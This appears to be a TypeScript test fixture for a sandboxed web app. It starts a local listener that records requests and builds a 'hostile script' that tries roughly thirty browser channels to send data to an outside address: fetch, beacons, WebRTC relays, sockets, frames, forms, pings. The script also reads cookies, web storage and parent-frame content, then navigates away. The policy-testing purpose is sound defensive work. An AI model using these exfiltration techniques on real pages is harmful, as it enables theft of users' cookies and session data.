import { once } from 'node:events'
import { createServer, type IncomingMessage } from 'node:http'
import type { AddressInfo } from 'node:net'

/**
 * A server elsewhere that writes down whatever reaches it: the address of each request, and bytes that are none. A browser may open a
 * connection ahead of a request that its policy then forbids; it sends nothing over it.
 */
export async function startListener() {
  const hits: string[] = []
  const server = createServer((request, answer) => {
    hits.push(request.url ?? '')
    answer.setHeader('access-control-allow-origin', '*')
    answer.end('x')
  })
  server.on('upgrade', (request: IncomingMessage, socket) => {
    hits.push(request.url ?? '')
    socket.destroy()
  })
  server.on('clientError', (_error, socket) => {
    hits.push('bytes')
    socket.destroy()
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  const { port } = server.address() as AddressInfo
  return {
    port,
    hits,
    stop: async () => {
      server.closeAllConnections()
      server.close()
      await once(server, 'close')
    },
  }
}

const element = (tag: string, name: string, address: string, more = '') =>
  `const e=document.createElement('${tag}');e.${name}=${address};${more}document.head.append(e)`

/** Asks a relay elsewhere, with a user name that could be anything. */
const peers = (away: string) =>
  `const p=new RTCPeerConnection({iceServers:[{urls:'turn:${new URL(away).host}?transport=tcp',username:'x',credential:'y'}]});p.createDataChannel('a');p.createOffer().then(o=>p.setLocalDescription(o))`

/** The ways by which a script could send or take something, each by its name. `away` is an address elsewhere, `home` our server's. */
const channels = (away: string, home: string): Readonly<Record<string, string>> => {
  const at = (name: string) => `'${away}/${name}'`
  return {
    fetch: `return fetch(${at('fetch')})`,
    'fetch without cors': `return fetch(${at('no-cors')},{mode:'no-cors'})`,
    'our own api': `return fetch('${home}/api/session',{credentials:'include'}).then(x=>x.text())`,
    xhr: `const x=new XMLHttpRequest();x.open('GET',${at('xhr')});x.send()`,
    picture: `new Image().src=${at('picture')}`,
    'style sheet': element('link', 'href', at('style'), "e.rel='stylesheet';"),
    'style with a picture': `document.body.style.background='url(${away}/background)'`,
    'style that imports': `const e=document.createElement('style');e.textContent='@import url(${away}/import)';document.head.append(e)`,
    font: `return new FontFace('f','url(${away}/font)').load()`,
    script: element('script', 'src', at('script')),
    'own script with data': element('script', 'src', `'${home}/assets/x.js?leak'`),
    module: `return import(${at('module')})`,
    prefetch: element('link', 'href', at('prefetch'), "e.rel='prefetch';"),
    preload: element('link', 'href', at('preload'), "e.rel='preload';e.as='image';"),
    form: `const f=document.createElement('form');f.action=${at('form')};f.method='post';document.body.append(f);f.submit()`,
    'new window': `return window.open(${at('window')})`,
    'top moved': `top.location=${at('top')}`,
    'parent moved': `parent.location.href=${at('parent')}`,
    socket: `new WebSocket('${away.replace('http', 'ws')}/socket')`,
    'event source': `new EventSource(${at('events')})`,
    beacon: `return navigator.sendBeacon(${at('beacon')},'x')`,
    worker: `new Worker('data:text/javascript,fetch("${away}/worker")')`,
    'blob worker': `new Worker(URL.createObjectURL(new Blob(['fetch("${away}/blob-worker")'])))`,
    'service worker': `return navigator.serviceWorker.register('${home}/x.js')`,
    frame: `const e=document.createElement('iframe');e.src=${at('frame')};document.body.append(e)`,
    'frame with a script': `const e=document.createElement('iframe');e.srcdoc='<script>fetch("${away}/srcdoc")<\\/script><img src="${away}/srcdoc-picture">';document.body.append(e)`,
    object: `const e=document.createElement('object');e.data=${at('object')};document.body.append(e)`,
    video: `const e=document.createElement('video');e.src=${at('video')};document.body.append(e)`,
    'peer connection': peers(away),
    'peer connection of a frame within': `const e=document.createElement('iframe');e.srcdoc='<script>${peers(away).replaceAll("'", '"')}<\\/script>';document.body.append(e)`,
    'peer connection of an empty frame': `const e=document.createElement('iframe');document.body.append(e);const w=e.contentWindow;window.RTCPeerConnection=w.RTCPeerConnection;${peers(away)}`,
    transport: `return new WebTransport('${away.replace('http:', 'https:')}/transport').ready`,
    ping: `const e=document.createElement('a');e.href='#';e.ping=${at('ping')};document.body.append(e);e.click()`,
  }
}

/** What a script could read of the app, each by its name. */
const readings: Readonly<Record<string, string>> = {
  cookie: 'return document.cookie',
  'local storage': 'return JSON.stringify(localStorage)',
  'session storage': 'return JSON.stringify(sessionStorage)',
  database: `return new Promise((good,bad)=>{const r=indexedDB.open('x');r.onsuccess=()=>good('open');r.onerror=bad})`,
  caches: `return caches.keys()`,
  'the page around it': 'return parent.document.title',
  'its address': 'return parent.location.href',
  'its frames': 'return parent.frames[1].document.title',
  'broadcast of the app': `return new Promise((good,bad)=>{const b=new BroadcastChannel('caseloom');b.onmessage=e=>good(JSON.stringify(e.data));setTimeout(bad,500)})`,
}

/** How a frame leaves for another address by itself, which ends whatever else its script does. */
const leaving = {
  'by its address': (away: string) => `location.href='${away}/self'`,
  'by a refresh': (away: string) =>
    `const e=document.createElement('meta');e.httpEquiv='refresh';e.content='0;url=${away}/refresh';document.head.append(e)`,
} as const
export type Leaving = keyof typeof leaving

/** A script that tries all, tells the page around it which readings succeeded, and at last leaves with what it knows. */
export function hostileScript(away: string, home: string, leaves: Leaving): string {
  const list = (all: Readonly<Record<string, string>>) =>
    `{${Object.entries(all)
      .map(([name, code]) => `${JSON.stringify(name)}(){${code}}`)
      .join(',')}}`
  return `
    const sent=${list(channels(away, home))};
    const readable=${list(readings)};
    const got=[];
    for (const name of Object.keys(sent)) { try { const x=sent[name](); if (x&&x.catch) x.then(y=>{if(typeof y==='string')got.push(name)},()=>{}) } catch {} }
    for (const name of Object.keys(readable)) { try { Promise.resolve(readable[name]()).then(x=>{if(x)got.push(name)},()=>{}) } catch {} }
    setTimeout(()=>parent.postMessage({Got:got,Tried:Object.keys(sent).length+Object.keys(readable).length},'*'),1500);
    setTimeout(()=>{${leaving[leaves](away)}},2500);`
}
